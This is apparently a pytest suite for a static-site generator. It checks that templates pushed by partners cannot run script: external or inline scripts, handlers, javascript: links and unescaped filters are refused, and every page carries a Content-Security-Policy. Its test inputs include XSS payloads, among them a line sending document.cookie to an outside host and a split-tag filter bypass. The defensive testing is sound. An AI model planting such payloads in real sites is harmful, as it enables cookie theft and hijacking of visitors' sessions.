"""A pushed repository template can lay out the published site, not run script in it
(issue 21, section 7).

A repository's templates/site/*.js, inline script, handlers, javascript: links or |raw in
a template the site reads are refused, unless this computer's own settings (outside the
repository) allow that file as it is; every page carries a Content-Security-Policy that
lets only the site's own script run, and `jatac site --serve` sends it as a header.
"""

from __future__ import annotations

import threading
import urllib.request
from pathlib import Path

import pytest

from tests.conftest import Jatac

LAYOUT = Path(__file__).resolve().parent.parent / "templates" / "site" / "_layout.html.j2"
POLICY_START = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self'; script-src 'self'"


@pytest.fixture
def config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """This computer's settings folder (outside every repository)."""
    folder = tmp_path / "config"
    monkeypatch.setenv("XDG_CONFIG_HOME", str(folder))
    return folder / "jatac"


@pytest.fixture
def site(jatac: Jatac) -> Jatac:
    jatac.new("Graffiti at the underpass")
    return jatac


def pushed(jatac: Jatac, relpath: str, text: str) -> None:
    path = jatac.root / relpath
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    jatac.git("add", relpath)
    jatac.git("commit", "--quiet", "--no-verify", "-m", "Pushed by a partner")


def layout_with(extra: str) -> str:
    return LAYOUT.read_text().replace('<main id="main">', f'<main id="main">\n{extra}', 1)


def refused(jatac: Jatac, out: Path, said: str) -> str:
    head = jatac.git("rev-parse", "HEAD")
    result = jatac("site", "--out", str(out), ok=False)
    assert result.exit_code == 1, result.output
    assert said in result.stderr, result.stderr
    assert "the site was not built" in result.stderr
    assert not out.exists() and jatac.git("rev-parse", "HEAD") == head and jatac.status() == ""
    return str(result.stderr)


@pytest.mark.parametrize(
    ("extra", "said"),
    [
        (
            "<script>fetch('https://example.org/?' + document.cookie)</script>",
            "a <script> other than the site's own",
        ),
        ('<script src="https://example.org/x.js"></script>', "a <script> other than the site's own"),
        ('<script src="{{ root }}style.css"></script>', "a <script> other than the site's own"),
        ('<img src="x.png" alt="" onerror="alert(1)">', "an on...= handler"),
        ('<a href="javascript:alert(1)">Cases</a>', "a javascript: link"),
        ("{{ partnership|raw }}", "|raw prints a value without escaping it"),
        ("{{ partnership|safe }}", "|safe prints a value without escaping it"),
        ("{% autoescape false %}{{ partnership }}{% endautoescape %}", "autoescape turns escaping off"),
    ],
)
def test_a_pushed_site_template_that_would_run_script_is_refused(
    site: Jatac, tmp_path: Path, config: Path, extra: str, said: str
) -> None:
    pushed(site, "templates/site/_layout.html.j2", layout_with(extra))
    err = refused(site, tmp_path / "out", said)
    assert "templates/site/_layout.html.j2 would run script in the published site" in err
    line = 1 + layout_with(extra).splitlines().index(extra)
    assert f"line {line}:" in err
    assert f"allow_script under [site] in {config / 'settings.toml'}" in err


def test_a_tag_split_across_printed_values_is_caught_in_the_page_written(
    site: Jatac, tmp_path: Path, config: Path
) -> None:
    pushed(site, "templates/site/_layout.html.j2", layout_with("<scr{{ '' }}ipt>alert(1)</script>"))
    refused(site, tmp_path / "out", "made from the repository's templates")


def test_a_pushed_script_is_refused_until_this_computer_allows_it_as_it_is(
    site: Jatac, tmp_path: Path, config: Path
) -> None:
    pushed(site, "templates/site/search.js", "fetch('https://example.org/?' + document.cookie);\n")
    err = refused(site, tmp_path / "out", "templates/site/search.js would run script")
    line = err.split('add "', 1)[1].split('"', 1)[0]
    assert line.startswith("templates/site/search.js sha256:")

    # an allowance inside the repository is no setting of this computer
    inside = site.root / "cfg"
    (inside / "jatac").mkdir(parents=True)
    (inside / "jatac" / "settings.toml").write_text(f'[site]\nallow_script = ["{line}"]\n')
    site("site", "--out", str(tmp_path / "out"), ok=False, env={"XDG_CONFIG_HOME": str(inside)})

    config.mkdir(parents=True, exist_ok=True)
    (config / "settings.toml").write_text(f'[site]\nallow_script = ["{line}"]\n')
    site("site", "--out", str(tmp_path / "out"))
    assert "document.cookie" in (tmp_path / "out" / "search.js").read_text()

    # a later push that changes the file needs allowing again
    pushed(site, "templates/site/search.js", "alert(2);\n")
    result = site("site", "--out", str(tmp_path / "out"), ok=False)
    assert "templates/site/search.js would run script" in result.stderr
    assert (tmp_path / "out" / "search.js").read_text().startswith("fetch")


def test_settings_that_are_not_toml_are_named(site: Jatac, tmp_path: Path, config: Path) -> None:
    pushed(site, "templates/site/search.js", "alert(1);\n")
    config.mkdir(parents=True, exist_ok=True)
    (config / "settings.toml").write_text("[site\n")
    result = site("site", "--out", str(tmp_path / "out"), ok=False)
    assert result.exit_code == 1 and "settings.toml is not valid TOML" in result.stderr


def test_an_allowed_inline_script_runs_by_its_digest_only(site: Jatac, tmp_path: Path, config: Path) -> None:
    template = layout_with("<script>document.title = 'allowed';</script>")
    pushed(site, "templates/site/_layout.html.j2", template)
    err = refused(site, tmp_path / "out", "a <script> other than the site's own")
    line = err.split('add "', 1)[1].split('"', 1)[0]
    config.mkdir(parents=True, exist_ok=True)
    (config / "settings.toml").write_text(f'[site]\nallow_script = ["{line}"]\n')
    site("site", "--out", str(tmp_path / "out"))
    page = (tmp_path / "out" / "index.html").read_text()
    assert POLICY_START + " 'sha256-" in page  # that script, by its digest; still nothing else


def test_a_layout_only_template_builds_and_every_page_carries_the_policy_first(
    site: Jatac, tmp_path: Path, config: Path
) -> None:
    # a partner's own layout: other words and classes, the charts, the site's own search script
    pushed(site, "templates/site/_layout.html.j2", layout_with('<p class="banner">Our partnership</p>'))
    performance = (LAYOUT.parent / "performance.html.j2").read_text().replace("<h1>", '<h1 class="big">', 1)
    pushed(site, "templates/site/performance.html.j2", performance)
    search = (LAYOUT.parent / "search.html.j2").read_text()
    assert '<script src="search.js">' in search
    pushed(
        site, "templates/site/search.html.j2", search.replace('src="search.js"', 'src="{{ root }}search.js"')
    )
    out = tmp_path / "out"
    site("site", "--out", str(out))
    pages = sorted(out.rglob("*.html"))
    assert len(pages) > 5
    for page in pages:
        text = page.read_text()
        head = text.split("<head>", 1)[1].lstrip()
        assert head.startswith(POLICY_START + ";"), page  # before anything that loads or runs
    assert "Our partnership" in (out / "index.html").read_text()
    assert (out / "performance.html").read_text().count("<svg") == 2  # charts shown, no |raw


def test_a_pushed_layout_without_a_head_still_carries_the_policy_before_anything(
    site: Jatac, tmp_path: Path, config: Path
) -> None:
    pushed(site, "templates/site/_layout.html.j2", "<p>{% block body %}{% endblock %}</p>\n")
    out = tmp_path / "out"
    site("site", "--out", str(out))
    assert (out / "index.html").read_text().startswith(POLICY_START)


def test_the_preview_sends_the_policy_and_nosniff(site: Jatac, tmp_path: Path, config: Path) -> None:
    from jatac.site.serve import server

    out = tmp_path / "out"
    site("site", "--out", str(out))
    httpd = server(out, 0)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        for name in ("index.html", "style.css", "search.js"):
            port = httpd.server_address[1]
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/{name}", timeout=10) as response:
                assert response.headers["X-Content-Type-Options"] == "nosniff"
                csp = response.headers["Content-Security-Policy"]
                assert csp.startswith("default-src 'self'; script-src 'self';"), csp
                assert "unsafe-inline" not in csp.split("style-src")[0]
    finally:
        httpd.shutdown()
        httpd.server_close()
